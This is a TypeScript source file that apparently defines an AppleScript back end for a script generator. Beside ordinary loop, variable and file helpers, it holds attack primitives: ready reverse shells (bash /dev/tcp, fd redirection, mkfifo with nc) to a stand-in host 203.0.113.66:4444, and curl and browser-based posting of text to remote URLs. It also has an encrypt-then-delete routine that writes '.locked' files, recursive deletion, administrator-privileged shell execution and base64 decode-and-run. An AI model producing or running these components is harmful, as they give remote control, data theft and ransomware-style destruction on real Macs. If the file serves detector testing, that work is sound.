import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `((POSIX path of (path to home folder)) & ${quote(below)})`;
const shell = (command: string): string => `do shell script ${command}`;

export const applescript: Dialect = {
  name: "applescript",
  file: "scripts/notes.applescript",
  run: "osascript scripts/notes.applescript",
  imports: [["NSURL", 'use framework "Foundation"\nuse scripting additions']],
  program: ({ definitions, body }, imports) => [...imports, "", ...definitions, "", ...body, ""].join("\n"),
  quote,
  environment: { one: (name) => `(system attribute ${name})`, all: '(do shell script "env")' },
  contentOf: (below) => `(read POSIX file ${home(below)})`,
  home,
  clients: {
    "curl-quoted": {
      post: (url, text) => [shell(`"curl -s -d " & quoted form of (${text}) & " " & ${url}`)],
      get: (url) => value("body", `set body to do shell script "curl -fsSL " & ${url}`),
    },
    "curl-binary": {
      post: (url, text) => [
        `set cmd to "curl -s -X POST --data-binary " & quoted form of (${text}) & " " & quoted form of ${url}`,
        "do shell script cmd",
      ],
    },
    "open-location": { post: (url, text) => [`open location ${url} & "?d=" & (${text})`] },
    safari: {
      post: (url, text) =>
        wrap('tell application "Safari"', [`open location (${url} & "?d=" & (${text}))`], "end tell"),
      get: (url) =>
        value(
          "body",
          ...wrap(
            'tell application "Safari"',
            [`set doc to make new document with properties {URL:${url}}`, "delay 5", "set body to text of doc"],
            "end tell",
          ),
        ),
    },
    foundation: {
      post: (url, text) => [
        `set theURL to current application's NSURL's URLWithString:(${url} & "?d=" & (${text}))`,
        "current application's NSString's stringWithContentsOfURL:theURL",
      ],
      get: (url) =>
        value(
          "body",
          `set theURL to current application's NSURL's URLWithString:${url}`,
          "set body to (current application's NSString's stringWithContentsOfURL:theURL) as text",
        ),
    },
  },
  shells: {
    "shell-script": { run: (c) => [shell(c)], capture: (c) => value("seen", `set seen to do shell script ${c}`) },
    "shell-admin": { run: (command) => [`${shell(command)} with administrator privileges`] },
    terminal: { run: (command) => wrap('tell application "Terminal"', [`do script ${command}`], "end tell") },
  },
  variable: (name) => name,
  set: (name, expression) => `set ${name} to ${expression}`,
  define: (name, parameters, body) => wrap(`on ${name}(${parameters.join(", ")})`, body, `end ${name}`),
  getter: (name, expression) => ({
    definitions: wrap(`on ${name}()`, [`return ${expression}`], `end ${name}`),
    value: `(my ${name}())`,
  }),
  call: (name, values) => `my ${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: { definitions: [], body: [`set job to {target:${url}, note:${text}}`] },
    url: "(target of job)",
    text: "(note of job)",
  }),
  loop: (items, body) => wrap(`repeat with item_ in {${items.join(", ")}}`, body("(contents of item_)"), "end repeat"),
  forever: (body) => wrap("repeat", [...body, "delay 60"], "end repeat"),
  save: (path, text) => [
    `set f to open for access (POSIX file ${path}) with write permission`,
    `write (${text}) to f`,
    "close access f",
  ],
  append: (path, text) => [
    `set f to open for access (POSIX file ${path}) with write permission`,
    `write (${text} & linefeed) to f starting at eof`,
    "close access f",
  ],
  print: (text) => `display dialog ${text}`,
  walk: (folder, body) =>
    wrap(
      `repeat with path_ in paragraphs of (do shell script "find " & quoted form of ${folder} & " -type f")`,
      body("path_"),
      "end repeat",
    ),
  remove: (file) => [`do shell script "rm -f " & quoted form of ${file}`],
  encrypt: (file) => [
    `do shell script "openssl enc -aes-256-cbc -pass file:/tmp/.k -in " & quoted form of ${file} & " -out " & quoted form of (${file} & ".locked")`,
    `do shell script "rm -f " & quoted form of ${file}`,
  ],
  removeTree: (folder) => [`do shell script "rm -rf " & quoted form of ${folder}`],
  decode: (text) => `(do shell script "echo " & ${text} & " | base64 -D")`,
  evaluate: (code) => `run script ${code}`,
  oneLiner: (command) => `do shell script ${quote(command)}`,
  shellsBehindSockets: {
    bash: 'do shell script "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1 &"\n',
    variable:
      'set target to "203.0.113.66"\nset port_ to "4444"\ndo shell script "/bin/bash -c \'exec 5<>/dev/tcp/" & target & "/" & port_ & "; sh <&5 >&5 2>&5\'"\n',
    fifo: 'do shell script "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.66 4444 > /tmp/f &"\n',
  },
  sockets: {
    print:
      "set answer to do shell script \"printf 'PING\\\\r\\\\n' | nc -w 2 127.0.0.1 6379\"\ndisplay dialog answer\n",
  },
};
